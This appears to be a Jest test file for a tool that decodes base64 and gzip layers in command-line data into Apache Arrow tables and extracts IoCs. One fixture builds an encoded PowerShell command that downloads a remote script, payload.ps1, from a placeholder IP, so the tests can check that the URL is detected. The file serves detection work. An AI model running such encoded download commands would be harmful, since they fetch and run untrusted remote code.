// The Arrow output and the worker job: column order and types, IPC round trip, IoCs.
import { tableFromArrays } from 'apache-arrow';
import { decodeIPC, encodeIPC } from '../../arrow';
import { JobContext } from '../../job';
import { decodeJob } from '../../../worker/jobs/decode';
import { TableStore } from '../../../worker/store';
import { decodedItemsToTable, decodeTexts, EXTRA_COLUMNS, MSTICPY_COLUMNS } from '../index';
import { b64, gz } from './helpers';

describe('decodedItemsToTable', () => {
  it('puts msticpy columns first and extras after, and survives an IPC round trip', () => {
    const texts = ['x ' + b64(gz('hello from gzip layer')), null, 'nothing'];
    const table = decodeIPC(
      encodeIPC(
        decodedItemsToTable(decodeTexts(texts), { inputColumn: 'CommandLine', inputs: texts })
      )
    );
    const names = table.schema.fields.map(f => f.name);
    expect(names).toEqual([
      ...MSTICPY_COLUMNS.slice(0, 13),
      'CommandLine',
      ...MSTICPY_COLUMNS.slice(13),
      ...EXTRA_COLUMNS
    ]);
    expect(table.numRows).toBe(1);
    const row = table.get(0)!.toJSON();
    expect(row.chain).toBe('base64 > gzip > utf-8');
    expect(row.decoded_string).toBe('hello from gzip layer');
    expect([...row.reference]).toEqual(['', '1.', '1']);
    expect(row.file_hashes.md5).toBe(row.md5);
    expect(row.src_index).toBe(0);
    expect(row.CommandLine).toBe(texts[0]);
  });

  it('builds an empty table with the same columns', () => {
    const table = decodedItemsToTable([]);
    expect(table.numRows).toBe(0);
    expect(table.schema.fields.map(f => f.name)).toEqual([...MSTICPY_COLUMNS, ...EXTRA_COLUMNS]);
  });
});

describe('decodeJob', () => {
  const store = new TableStore();
  const enc =
    'powershell -enc ' + b64('Invoke-WebRequest http://203.0.113.7/payload.ps1', 'utf16le');
  const { id } = store.add(
    tableFromArrays({
      CommandLine: ['dir', enc],
      Other: [b64('plain text in another column'), null]
    })
  );

  it('decodes one column with its name as the input column and IoCs from the ioc module', async () => {
    const out = await decodeJob(store, new JobContext(), { tableId: id, columns: ['CommandLine'] });
    expect(out.numRows).toBe(1);
    const row = out.get(0)!.toJSON();
    expect(row.CommandLine).toBe(enc);
    expect(row.column).toBe('CommandLine');
    expect(row.src_index).toBe(1);
    expect(JSON.parse(JSON.stringify(row.iocs))).toEqual(
      expect.arrayContaining([expect.objectContaining({ value: 'http://203.0.113.7/payload.ps1' })])
    );
  });

  it('decodes several columns into one table and runs the parity mode', async () => {
    const out = await decodeJob(store, new JobContext(), {
      tableId: id,
      columns: ['CommandLine', 'Other']
    });
    expect(out.getChild('column')!.toArray()).toEqual(['CommandLine', 'Other']);
    expect(out.getChild('input')!.get(1)).toBe(b64('plain text in another column'));
    const parity = await decodeJob(store, new JobContext(), {
      tableId: id,
      columns: ['CommandLine'],
      parity: 'msticpy'
    });
    expect(parity.getChild('encoding_type')!.get(0)).toBe('utf-8');
    expect(() => decodeJob(store, new JobContext(), { tableId: id, columns: ['Missing'] })).toThrow(
      /Column "Missing"/
    );
  });
});
